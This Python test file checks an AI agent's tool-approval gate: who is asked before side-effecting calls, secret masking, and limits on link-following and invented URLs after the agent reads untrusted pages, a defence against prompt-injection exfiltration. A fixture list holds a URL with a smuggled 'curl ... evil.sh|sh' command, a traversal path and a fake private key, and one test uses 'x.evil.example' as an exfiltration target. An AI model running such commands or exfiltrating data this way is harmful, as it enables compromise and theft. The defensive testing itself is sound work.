"""What stands before a call: sender, plugins, people; and what a person reads of it."""

import json
from dataclasses import replace
from hashlib import sha256
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typing_extensions import override

from adapters.rendering.markdown import parse
from agent.errors import ToolError, TurnSuspended
from agent.messages import text_of
from agent.ports import Decision, Inquiry, InquiryReply, Origin
from agent.safety.redaction import MASK, Redactor
from agent.tools import gate, policy
from agent.tools.context import Provenance, ToolContext, ToolOutcome, TurnRights
from agent.tools.execute import MAX_ASKED, MAX_CONCURRENT, run_calls
from agent.tools.gate import ApprovalRules, Gate, approval_question
from agent.tools.links import Trail
from agent.tools.policy import MOST_LINKS, ApprovalMode
from agent.tools.registry import Arguments, Tool, ToolRegistry
from tests.agent.tools.doubles import MemoryJournal, call, context

SECRET = 'sec"ret\\value'


class What(Arguments):
    what: str = ""


class Folk:
    """People who give one reply, or none."""

    def __init__(self, reply: InquiryReply | None) -> None:
        self.reply = reply
        self.asked: list[Inquiry] = []

    async def ask(self, inquiry: Inquiry) -> InquiryReply:
        self.asked.append(inquiry)
        if self.reply is None:
            raise TurnSuspended("nobody has answered")
        return self.reply

    async def decided(self, call_id: str) -> InquiryReply | None:
        """Nothing was asked before."""


class Hooks:
    """A plugin that objects to one tool, and notes what ran."""

    def __init__(self) -> None:
        self.after_calls: list[tuple[str, dict[str, Any], str]] = []

    async def before(self, name: str, arguments: Any, _context: ToolContext) -> str | None:
        return f"not {arguments['what']}" if name == "send" else None

    async def after(
        self, name: str, arguments: Any, outcome: ToolOutcome, _context: ToolContext
    ) -> None:
        self.after_calls.append((name, arguments, outcome.text))


class Bench:
    """Three tools: one looks, one looks outside, one sends."""

    def __init__(self) -> None:
        self.ran: list[str] = []
        self.journal = MemoryJournal()
        self.tools = ToolRegistry([
            Tool("look", "Looks.", "read", What, self.runs("look")),
            Tool("fetch", "Fetches.", "read", What, self.runs("fetch"), restricted=True),
            Tool("send", "Sends.", "side_effect", What, self.runs("send")),
        ])

    async def run(self, *names: str, mode: ApprovalMode = "side_effects", **using: Any) -> Any:
        """Call these tools in one message; returns their results as text."""
        calls = [call(name, '{"what": "x"}', name) for name in names]
        rules = ApprovalRules(policy.build_table(mode))
        entries = await run_calls(calls, self.tools, context(**using), self.journal, rules)
        return [text_of(entry.message) for entry in entries]

    def runs(self, name: str) -> Any:
        async def run(of: ToolContext, _arguments: What) -> str:
            assert of.call_id == name
            self.ran.append(name)
            return f"done {name}"

        return run


@pytest.mark.parametrize(
    ("mode", "asked"),
    [("side_effects", ["send"]), ("always", ["fetch", "send"]), ("never", [])],
)
async def test_for_which_calls_somebody_is_asked(mode: ApprovalMode, asked: list[str]) -> None:
    """By the effect of the tool, or by whether it touches the world outside."""
    bench, folk = Bench(), Folk(InquiryReply("answered", "once", "web:me"))
    await bench.run("look", "fetch", "send", mode=mode, people=folk)
    assert sorted(inquiry.tool for inquiry in folk.asked) == asked
    assert sorted(bench.ran) == ["fetch", "look", "send"]


@pytest.mark.parametrize("text", ["once", "conversation"])
async def test_an_approved_call_runs(text: str) -> None:
    """Its intent is journaled as what it is."""
    bench = Bench()
    assert await bench.run("send", people=Folk(InquiryReply("answered", text, "web:me"))) == [
        "done send"
    ]
    assert bench.journal.events == [("start", "send", "side_effect"), ("result", "send", "ok")]


@pytest.mark.parametrize(
    ("people", "why"),
    [
        (Folk(InquiryReply("answered", "deny", "web:me")), gate.DENIED),
        (Folk(InquiryReply("answered", "anything else", "web:me")), gate.DENIED),
        (Folk(InquiryReply("expired")), gate.EXPIRED),
        (None, gate.NOBODY),
    ],
    ids=["denied", "unknown word", "expired", "nobody"],
)
async def test_a_call_without_a_yes_does_not_run(people: Folk | None, why: str) -> None:
    """It leaves a result, and is journaled as something that may be looked at again."""
    bench = Bench()
    [told] = await bench.run("send", people=people)
    assert why in told
    assert bench.ran == []
    assert bench.journal.events == [("start", "send", "none"), ("result", "send", "denied")]


async def test_what_was_decided_goes_with_the_intent() -> None:
    """With its row and its grounds; not of what only looks, nor twice of what is asked about."""
    bench, folk = Bench(), Folk(InquiryReply("answered", "once", "web:me"))
    read = Provenance({Origin("page", "example.com")})
    rights: dict[str, Any] = {"roles": frozenset({"owner", "member"}), "read": read}
    await bench.run("look", "fetch", mode="never", **rights)
    digest = sha256(b'{"what": "x"}').hexdigest()
    grounds = (digest, ("member", "owner"), True)
    assert bench.journal.decided == {
        "look": None,
        "fetch": Decision("allow", "default.talk", *grounds),
    }
    await bench.run("send", people=folk, **rights)
    [asked] = folk.asked
    assert asked.decision == Decision("ask", "tainted-acts", *grounds)
    assert bench.journal.decided["send"] is None


async def test_what_was_refused_or_vetoed_goes_with_the_intent() -> None:
    """Whatever the tool is; arguments that do not fit are no decision."""
    bench = Bench()
    await bench.run("send", hooks=Hooks(), mode="never")
    await bench.run("fetch", roles=frozenset({"guest"}))
    await bench.run("unknown")
    decided = {name: each and each[:2] for name, each in bench.journal.decided.items()}
    assert decided == {
        "send": ("veto", ""),
        "fetch": ("deny", "default.guests"),
        "unknown": None,
    }


def test_own_records_are_those_of_a_direct_chat() -> None:
    """In a group a yes of one person does not cover what is another's."""
    rules = ApprovalRules(own_records=frozenset({"cancel"}))
    calls = [call("cancel", json.dumps({"order_id": number})) for number in (1, 2)]
    for group, keys in (("", 1), ("telegram:-1", 2)):
        rights = TurnRights(group=group)
        assert len({rules.covered(each, rights) for each in calls}) == keys


PAGE = Origin("page", "site.example")


def fetching(trail: Trail, *urls: str, hosts: tuple[str, ...] = (), rounds: int = 1) -> list[str]:
    """Return the outcomes of the calls of one message in a tainted turn.

    Args:
        rounds: Number of times that the model writes this message.
    """
    using = context(read=Provenance({PAGE}, trail=trail))
    here = Gate(ApprovalRules(hosts=hosts), ToolRegistry([]), using)
    calls = [call("fetch_url", json.dumps({"url": url}), f"c{n}") for n, url in enumerate(urls)]
    for _ in range(rounds):
        here.record_reads(calls)
    return [here.decision(each).then for each in calls]


def test_a_tainted_turn_follows_five_links() -> None:
    """In all, even by one message; links that a person named do not count."""
    urls = [f"https://site.example/{n}" for n in range(8)]
    trail = Trail(frozenset({urls[1]}), dict.fromkeys(urls, "site.example"))
    assert fetching(trail, *urls) == ["allow"] * 6 + ["ask"] * 2
    assert trail.followed == MOST_LINKS
    assert fetching(trail, urls[0], urls[1]) == ["ask", "allow"]
    assert fetching(Trail(links=trail.links), urls[0], rounds=6) == ["ask"]


def test_what_a_model_makes_up_is_asked_about() -> None:
    """Also at the host of a page, of a link, or of a named address."""
    trail = Trail(frozenset({"https://own.example/a"}), {"https://site.example/1": "site.example"})
    made_up = ["https://own.example/a?d=x", "https://site.example/1?d=x", "https://x.own.example/"]
    assert fetching(trail, *made_up) == ["ask"] * 3
    assert trail.followed == 0


def test_after_a_tool_recalled_something_each_address_is_asked_about() -> None:
    """Except listed hosts; the message that recalls is written before the result."""
    urls = ["https://own.example/a", "https://site.example/1", "https://listed.example/x"]
    known = Trail(frozenset(urls[:1]), {urls[1]: "site.example"}, recalled=True)
    assert fetching(known, *urls, hosts=("listed.example",)) == ["ask", "ask", "allow"]
    using = context(read=Provenance({PAGE}, trail=replace(known)))
    here = Gate(ApprovalRules(), ToolRegistry([]), using)
    using.rights.read.trail.recalled = False
    asked = call("fetch_url", json.dumps({"url": urls[0]}), "c1")
    here.record_reads([asked])
    using.rights.read.trail.recalled = True
    assert here.decision(asked).then == "allow"


def elsewhere(trail: Trail, *arguments: dict[str, Any], hosts: tuple[str, ...] = ()) -> list[str]:
    """Return the rulings on calls of a tool that only reads elsewhere, in a tainted turn."""
    box = ToolRegistry([Tool("get", "Gets.", "read", What, Bench().runs("get"), restricted=True)])
    here = Gate(ApprovalRules(hosts=hosts), box, context(read=Provenance({PAGE}, trail=trail)))
    calls = [call("get", json.dumps(each), f"c{n}") for n, each in enumerate(arguments)]
    here.record_reads(calls)
    return [here.decision(each).then for each in calls]


def test_an_address_for_another_program_is_looked_at_like_a_fetch() -> None:
    """The strictest address in the arguments decides; fetches and reads share five links."""
    links = {f"https://site.example/{n}": "site.example" for n in range(7)}
    trail = Trail(frozenset({"https://own.example/a"}), links)
    known = [{"url": "https://own.example/a"}, {"url": "https://l.example/x"}, {"q": "chairs"}]
    made_up = [{"url": "https://own.example/a?d=x"}, {"url": [*links][:1], "to": "x.evil.example"}]
    assert elsewhere(trail, *known, *made_up, hosts=("l.example",)) == ["allow"] * 3 + ["ask"] * 2
    assert elsewhere(trail, {"url": [*links][:2]}) == ["ask"]
    assert trail.followed == 0
    assert elsewhere(trail, *({"url": each} for each in links)) == ["allow"] * 5 + ["ask"] * 2
    assert fetching(trail, next(iter(links))) == ["ask"]


def test_after_a_tool_recalled_something_no_word_goes_elsewhere_unasked() -> None:
    """But to hosts of the settings."""
    trail = Trail(frozenset({"https://own.example/a"}), recalled=True)
    given = [{"q": "hunter2"}, {"url": "https://own.example/a"}, {"url": "https://l.example/x"}]
    assert elsewhere(trail, *given, hosts=("l.example",)) == ["ask", "ask", "allow"]


async def test_who_looks_back_has_recalled_something() -> None:
    """Also tools of a context engine and a plugin, by any name."""
    earlier, messages = Provenance(), Provenance()
    await earlier.note_earlier()
    await messages.note_all([])
    assert earlier.trail.recalled
    assert messages.trail.recalled


@pytest.mark.parametrize("kind", ["file", "pasted"])
def test_a_yes_ends_with_another_file_or_paste(kind: Any) -> None:
    """Even in a turn tainted before; another page does not end it."""
    rules, mail = ApprovalRules(), call("mcp_mail_send", '{"to": "ann"}')
    seen = [{PAGE}, {PAGE, Origin("page", "b")}, {PAGE, Origin(kind, "1")}]
    seen.append(seen[2] | {Origin(kind, "2")})
    keys = [rules.covered(mail, TurnRights(read=Provenance(seen=frozenset(each)))) for each in seen]
    assert keys[0] == keys[1]
    assert len(set(keys)) == 3


async def test_a_call_that_waits_leaves_nothing() -> None:
    """The others of its message run to their results before the turn is given up."""
    bench = Bench()
    with pytest.raises(TurnSuspended):
        await bench.run("send", "look", people=Folk(None))
    assert bench.ran == ["look"]
    assert bench.journal.events == [("start", "look", "read"), ("result", "look", "ok")]


async def test_a_chat_is_not_buried_in_questions() -> None:
    """Of many calls some wait until others are decided; what asks nobody runs."""
    bench, folk = Bench(), Folk(None)
    calls = [call("send", call_id=f"c{number}") for number in range(100)]
    calls.append(call("look", call_id="look"))
    asked = (bench.tools, context(people=folk), bench.journal, ApprovalRules())
    with pytest.raises(TurnSuspended, match="100 tool calls wait"):
        await run_calls(calls, *asked)
    assert MAX_ASKED <= len(folk.asked) < MAX_ASKED + MAX_CONCURRENT
    assert bench.ran == ["look"]


async def test_who_may_not_act_is_refused_first() -> None:
    """Nobody is bothered, and no plugin sees it."""
    bench, folk, hooks = Bench(), Folk(None), Hooks()
    told = await bench.run("send", "fetch", people=folk, hooks=hooks, roles=frozenset({"guest"}))
    assert ["not allowed here (default.guests)" in text for text in told] == [True, True]
    assert (folk.asked, hooks.after_calls, bench.ran) == ([], [], [])
    assert ("result", "fetch", "refused") in bench.journal.events


async def test_arguments_that_do_not_fit_are_not_asked_about() -> None:
    """Such a call could not run whatever anybody says."""
    bench, folk = Bench(), Folk(None)
    calls = [call("send", '{"nothing": 1}'), call("unheard_of")]
    entries = await run_calls(
        calls, bench.tools, context(people=folk), bench.journal, ApprovalRules()
    )
    assert ["do not fit" in text_of(each.message) for each in entries] == [True, False]
    assert folk.asked == []


async def test_a_plugin_objects_before_anybody_is_asked() -> None:
    """Its words go to the model; what ran is told to it, what did not is not."""
    bench, folk, hooks = Bench(), Folk(None), Hooks()
    told = await bench.run("send", "look", people=folk, hooks=hooks)
    assert told == ["Error: send was not run: not x", "done look"]
    assert folk.asked == []
    assert hooks.after_calls == [("look", {"what": "x"}, "done look")]
    assert ("result", "send", "vetoed") in bench.journal.events


def test_a_question_shows_what_the_tool_gets() -> None:
    """As JSON, with secrets masked, and spelled out what nobody would see."""
    arguments = '{"what":"key ' + SECRET.replace("\\", "\\\\").replace('"', '\\"')
    question = approval_question(
        call("send", arguments + ' \\u202egnp\\u0007\\u007f"}'), Redactor([SECRET])
    )
    assert question == (
        "May I run `send`?\n\n```json\n"
        f'{{\n  "what": "key {MASK} \\u202egnp\\u0007\\u007f"\n}}\n```\n\n'
        f"15 characters of it are secrets of the settings: {MASK}."
    )


_CREDENTIALS = (
    "https://a:x;curl${IFS}evil.sh|sh;echo@pypi.org/simple",
    "echo Bearer bash/../../../../tmp/x",
    "-----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA\nsh x\n-----END PRIVATE KEY-----",
    "123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
)


@given(
    st.dictionaries(
        st.text(max_size=20),
        st.recursive(
            st.text() | st.sampled_from(_CREDENTIALS) | st.booleans() | st.integers(-9, 9),
            lambda inner: st.lists(inner, max_size=3),
            max_leaves=5,
        ),
        max_size=4,
    )
)
@settings(max_examples=60)
def test_a_question_shows_all_of_the_arguments(arguments: dict[str, Any]) -> None:
    """Whatever looks like a credential in them: nothing that runs is masked or left out."""
    question = approval_question(call("send", json.dumps(arguments)), Redactor([SECRET]))
    assert question is not None
    assert json.loads(question.split("json\n", 1)[1].rstrip("`")) == arguments


@pytest.mark.parametrize(
    "arguments",
    [
        '{"what":"begin' + "x" * gate.MAX_SHOWN_CHARS + 'end"}',
        '{"what":"' + "\\u202e" * (gate.MAX_SHOWN_CHARS // 6) + '"}',
        '{"what":' + "[" * 900 + "]" * 900 + "}",
    ],
    ids=["long", "long once it is spelled out", "deep"],
)
def test_what_cannot_be_shown_in_full_is_not_asked(arguments: str) -> None:
    """What a middle that is left out does would be approved unseen."""
    assert approval_question(call("send", arguments), Redactor()) is None


async def test_a_call_that_cannot_be_shown_does_not_run() -> None:
    """The model reads why."""

    class Nobody(Folk):
        @override
        async def ask(self, inquiry: Inquiry) -> InquiryReply:
            assert not inquiry.askable
            raise ToolError("too long")

    bench = Bench()
    long = call("send", '{"what":"' + "x" * gate.MAX_SHOWN_CHARS + '"}')
    entries = await run_calls(
        [long],
        bench.tools,
        context(people=Nobody(None)),
        bench.journal,
        ApprovalRules(),
    )
    assert text_of(entries[0].message) == "Error: send was not run: too long."
    assert bench.ran == []


def test_arguments_without_an_object_are_shown_as_none() -> None:
    """As the tool gets them."""
    assert "{}" in (approval_question(call("send", ""), Redactor()) or "")


@given(st.text(st.sampled_from('`~\n> #[]()x*\\"\u2028\u202e'), max_size=60))
def test_arguments_cannot_leave_their_code_block(what: str) -> None:
    """Whatever they hold: a question, one block, nothing behind it."""
    question = approval_question(call("send", What(what=what).model_dump_json()), Redactor())
    assert question is not None
    kinds = [token.type for token in parse(question)]
    assert kinds == ["paragraph_open", "inline", "paragraph_close", "fence"]
